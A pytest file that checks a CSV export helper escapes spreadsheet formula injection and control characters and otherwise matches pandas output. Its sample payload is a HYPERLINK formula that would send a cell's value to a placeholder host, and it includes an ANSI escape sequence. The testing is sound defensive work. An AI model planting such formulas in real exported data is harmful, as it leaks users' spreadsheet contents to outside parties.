"""A table for a spreadsheet holds no formulas."""

import csv
import io

import numpy as np
import pandas as pd
import pytest

from cgplab.spreadsheets import csv_text

STARTS = ["=", "+", "-", "@", "\t", "\r", "\n", "＝", "＋", "－", "＠"]


@pytest.mark.parametrize("start", STARTS)
@pytest.mark.parametrize("kind", [object, "string", "category"])
def test_formulas_are_texts(start, kind):
    formula = f'{start}HYPERLINK("http://x/"&A1,"y")'
    shown = formula.replace("\r", r"\r")
    frame = pd.DataFrame({formula: pd.Series([formula, "words", f"a{formula}"], dtype=kind)})
    assert list(csv.reader(io.StringIO(csv_text(frame), newline=""))) == [
        [f"'{shown}"], [f"'{shown}"], ["words"], [f"a{shown}"],
    ]  # fmt: skip


def test_control_characters_are_escaped():
    assert csv_text(pd.DataFrame({"note": ["\x1b[2Jaway", "two\nlines"]})) == 'note\n\\x1b[2Jaway\n"two\nlines"\n'


def test_everything_else_is_as_pandas_writes_it():
    frame = pd.DataFrame(
        {
            "real": [-1.5, np.nan, 1e-300], "whole": [-1, 0, 2], "some": pd.array([-1, None, 2], dtype="Int64"),
            "mixed": pd.Series([-1, None, True], dtype=object), "words": ["a-b", 'c "d"', "e,f"],
            "truth": [True, False, True], "time": pd.to_datetime(["2026-01-01"] * 3),
        },
        index=[5, 5, 7],
    )  # fmt: skip
    assert csv_text(frame) == frame.to_csv(index=False)
    assert csv_text(frame.iloc[:0]) == frame.iloc[:0].to_csv(index=False)
